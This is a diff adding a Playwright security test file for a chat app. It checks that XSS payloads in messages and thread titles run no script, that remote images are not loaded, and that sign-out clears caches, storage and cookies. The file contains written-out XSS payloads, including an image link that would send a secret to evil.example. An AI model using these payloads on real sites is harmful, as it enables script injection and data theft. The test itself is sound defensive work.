@@ -1,0 +1,110 @@
+/**
+ * Security items 2, 3 and 13 in the browser: stored XSS through messages and titles runs
+ * no script (sanitized, not merely blocked by the CSP), remote images are not fetched, and
+ * nothing of the account stays in the browser's caches or storage after sign-out.
+ */
+import { expect, test, type Page } from '@playwright/test';
+import { assistant, signUpByApi, startChat, waitForReply } from './helpers';
+
+const PAYLOAD = [
+  '<img src=x onerror="window.__xss=\'img\'">',
+  '<script>window.__xss="script"</script>',
+  '[link](javascript:window.__xss=1)',
+  '<svg onload="window.__xss=\'svg\'"></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '![i](https://evil.example/leak?q=secret)',
+].join(' ');
+
+async function watch(page: Page) {
+  const events = { dialogs: 0, evil: 0 };
+  page.on('dialog', (d) => {
+    events.dialogs++;
+    void d.dismiss();
+  });
+  page.on('request', (r) => {
+    if (r.url().includes('evil.example')) events.evil++;
+  });
+  return events;
+}
+
+async function expectNoScriptRan(page: Page) {
+  const state = await page.evaluate(() => ({
+    xss: (window as unknown as { __xss?: unknown }).__xss ?? null,
+    handlers: document.querySelectorAll('main [onerror], main [onload], main [onclick], main [ontoggle]').length,
+    jsLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
+    scripts: document.querySelectorAll('main script, main iframe, main svg[onload]').length,
+  }));
+  // (Chromium may still report CSP violations from DOMPurify parsing the dirty HTML into an
+  // inert document; what matters is that nothing ran and nothing dangerous reached the page.)
+  expect(state).toEqual({ xss: null, handlers: 0, jsLinks: 0, scripts: 0 });
+}
+
+test('XSS in messages and replies runs no script and loads no remote image', async ({ page }) => {
+  const events = await watch(page);
+  await signUpByApi(page);
+  await startChat(page, PAYLOAD);
+  await waitForReply(page);
+  // The user's text is shown as text; the echoed reply went through Markdown + DOMPurify.
+  await expect(page.locator('[data-role="user"]')).toContainText('<script>');
+  await expect(assistant(page)).toContainText('Echo:');
+
+  const composer = page.getByRole('textbox', { name: 'Message' });
+  await composer.fill('Now the nasty reply #xss');
+  await composer.press('Enter');
+  await expect(assistant(page)).toHaveCount(2);
+  await waitForReply(page);
+  await expect(assistant(page).last()).toContainText('Here are some payloads');
+  await expect(assistant(page).last().getByText(/Image: exfiltrate \(not loaded\)/)).toBeVisible();
+
+  await page.reload();
+  await expect(assistant(page)).toHaveCount(2);
+  await expectNoScriptRan(page);
+  expect(events).toEqual({ dialogs: 0, evil: 0 });
+});
+
+test('XSS in thread titles runs no script', async ({ page }) => {
+  const events = await watch(page);
+  await signUpByApi(page);
+  const title = '<img src=x onerror=alert(1)><script>alert(2)</script>';
+  const res = await page.request.post('/api/threads', { data: { title } });
+  const { thread } = await res.json();
+  await page.goto(`/t/${thread.id}`);
+  const nav = page.getByRole('navigation', { name: 'Threads' });
+  await expect(nav.getByRole('link', { name: title })).toBeVisible();
+  await expect(page.locator('header h1')).toHaveText(title);
+  await expectNoScriptRan(page);
+  expect(events).toEqual({ dialogs: 0, evil: 0 });
+});
+
+test.describe('with the service worker', () => {
+  test.use({ serviceWorkers: 'allow' });
+
+  test('no API response is cached, and sign-out leaves nothing of the account behind', async ({ page }) => {
+    await signUpByApi(page);
+    await startChat(page, 'Remember my secret: plum tree');
+    await waitForReply(page);
+    await page.getByRole('textbox', { name: 'Message' }).fill('an unsent draft');
+    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 15_000 }).catch(() => {});
+    const cached = async () =>
+      page.evaluate(async () => {
+        const urls: string[] = [];
+        for (const name of await caches.keys()) {
+          for (const req of await (await caches.open(name)).keys()) urls.push(req.url);
+        }
+        return urls;
+      });
+    expect((await cached()).filter((u) => u.includes('/api/'))).toEqual([]);
+
+    await page.goto('/settings');
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await expect(page).toHaveURL(/\/login/);
+    const left = await page.evaluate(async () => ({
+      drafts: Object.keys(localStorage).filter((k) => k.startsWith('parley:draft:')),
+      databases: (await indexedDB.databases()).map((d) => d.name),
+      cookies: document.cookie,
+    }));
+    expect(left).toEqual({ drafts: [], databases: [], cookies: '' });
+    expect((await cached()).filter((u) => u.includes('/api/'))).toEqual([]);
+    expect(await page.context().cookies()).toEqual([]);
+  });
+});
